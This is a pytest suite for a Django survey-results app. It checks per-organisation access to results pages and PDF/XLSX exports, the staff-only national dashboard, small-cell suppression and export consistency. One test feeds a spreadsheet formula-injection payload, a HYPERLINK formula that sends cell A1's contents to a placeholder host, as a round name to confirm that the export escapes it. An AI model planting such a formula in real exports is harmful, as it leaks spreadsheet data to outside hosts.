"""Every results URL against every persona, and the exports' figures against the page's."""

from io import BytesIO

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from conftest import make_user
from results.figures import round_results

from .factories import link, make_round, publish, submit

pytestmark = pytest.mark.django_db


@pytest.fixture
def answered_round(org_a, version):
    round_ = make_round(org_a, version, name="Baslinje")
    submit(link(round_, "politician"), 6, value=4, gender="woman")
    submit(link(round_, "official"), 7, value=lambda i, item: 2 + i % 3, gender="man")
    return publish(round_)


def urls(round_):
    return [
        reverse("results:round_results", args=[round_.pk]),
        reverse("results:round_pdf", args=[round_.pk]),
        reverse("results:round_xlsx", args=[round_.pk]),
    ]


def test_the_own_coordinator_gets_the_page_and_both_exports(client_a, answered_round):
    page, pdf, xlsx = (client_a.get(url) for url in urls(answered_round))
    assert page.status_code == 200
    assert "<svg" in page.content.decode()
    assert pdf.status_code == 200
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    assert xlsx.status_code == 200
    assert "attachment" in xlsx["Content-Disposition"]


def test_another_coordinator_gets_404_for_every_results_url(client_b, answered_round):
    for url in urls(answered_round):
        assert client_b.get(url).status_code == 404, url


def test_staff_see_any_organisations_results(client, staff_user, answered_round):
    client.force_login(staff_user)
    for url in urls(answered_round):
        assert client.get(url).status_code == 200, url


def test_anonymous_visitors_are_sent_to_login(answered_round):
    for url in urls(answered_round) + [reverse("results:national")]:
        result = Client().get(url)
        assert result.status_code == 302 and "/accounts/login/" in result["Location"], url


def test_the_national_dashboard_is_for_staff_only(client_a, answered_round):
    assert client_a.get(reverse("results:national")).status_code == 403
    client_a.force_login(make_user("nobody"))
    assert client_a.get(reverse("results:national")).status_code == 403


def test_the_dashboard_lists_every_organisation_and_filters(
    client, staff_user, answered_round, org_b
):
    client.force_login(staff_user)
    page = client.get(reverse("results:national"))
    assert page.status_code == 200
    picture = page.context["picture"]
    assert picture.organisations == 2 and picture.participating == 1 and picture.included == 1
    filtered = client.get(reverse("results:national"), {"county": "05"}).context["picture"]
    assert [row.organisation.code for row in filtered.participation] == ["0580"]
    assert filtered.standings == []


def test_a_bad_filter_is_explained_and_shows_nothing(client, staff_user, answered_round):
    client.force_login(staff_user)
    result = client.get(reverse("results:national"), {"county": "99", "kind": "village"})
    assert result.status_code == 400
    assert 'class="error-box"' in result.content.decode()
    assert "picture" not in result.context


def test_the_workbook_holds_the_same_figures_as_the_page(client_a, answered_round):
    results = round_results(answered_round)
    workbook = load_workbook(BytesIO(client_a.get(urls(answered_round)[2]).content))
    sheet = workbook.worksheets[2]  # goals
    values = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    for row in results.goals:
        assert values[str(row.unit.name)] == row.total.mean  # one decimal, as on the page


def test_suppressed_cells_are_dashes_in_the_workbook(client_a, org_a, version):
    round_ = make_round(org_a, version)
    submit(link(round_, "official"), 8, value=3)
    submit(link(round_, "key_person"), 2, value=5)
    publish(round_)
    workbook = load_workbook(BytesIO(client_a.get(urls(round_)[2]).content))
    header = [cell.value for cell in workbook.worksheets[1][1]]
    column = header.index("Andra nyckelpersoner")
    cells = [row[column] for row in workbook.worksheets[1].iter_rows(min_row=2, values_only=True)]
    assert cells and set(cells) == {"–"}
    assert 5 not in cells


def test_the_page_is_in_english_when_chosen(client_a, answered_round):
    client_a.cookies["django_language"] = "en"
    body = client_a.get(urls(answered_round)[0]).content.decode()
    assert "Goal areas" in body


def test_a_regions_results_have_no_kommungrupp_comparison(client, staff_user, version):
    from conftest import make_org

    region = make_org("05", "Region Östergötland", kind="region", county_code="05")
    round_ = make_round(region, version)
    submit(link(round_, "official"), 6, value=3)
    publish(round_)
    client.force_login(staff_user)
    result = client.get(reverse("results:round_results", args=[round_.pk]))
    assert result.status_code == 200
    assert "kommungrupp" not in result.context["results"].goals[0].comparisons


def test_charts_on_one_page_share_no_element_id(client_a, answered_round):
    import re
    from collections import Counter

    body = client_a.get(urls(answered_round)[0]).content.decode()
    ids = Counter(re.findall(r'\sid="([^"]+)"', body))
    assert [name for name, count in ids.items() if count > 1] == []


def test_a_round_named_like_a_formula_is_text_in_the_workbook(client_a, org_a, version):
    round_ = make_round(org_a, version, name='=HYPERLINK("http://x.example"&A1,"Klicka här")')
    submit(link(round_, "official"), 6)
    publish(round_)
    workbook = load_workbook(BytesIO(client_a.get(urls(round_)[2]).content))
    name = workbook.worksheets[0]["B2"]
    assert name.data_type == "s" and name.value.startswith("'=")


def test_below_the_threshold_a_round_sees_what_it_would_be_compared_with(
    client_a, org_a, org_b, version
):
    """Its own figures stay hidden; the national figures of the organisations that published
    (which never include this round) are shown instead, with the reason."""
    from results.tests.factories import link, make_round, publish, submit

    other = make_round(org_b, version)
    submit(link(other, "official"), 8, value=2)
    publish(other)
    small = make_round(org_a, version)
    submit(link(small, "official"), 3, value=5)
    publish(small)
    page = client_a.get(reverse("results:round_results", args=[small.pk])).content.decode()
    assert 'id="compared-with"' in page
    assert "Resultat visas när minst 5" in page  # why its own are hidden
    national = round_results(other).goals[0].total.mean
    assert f"{national:.1f}".replace(".", ",") in page
    assert "5,0" not in page  # its own answers are nowhere
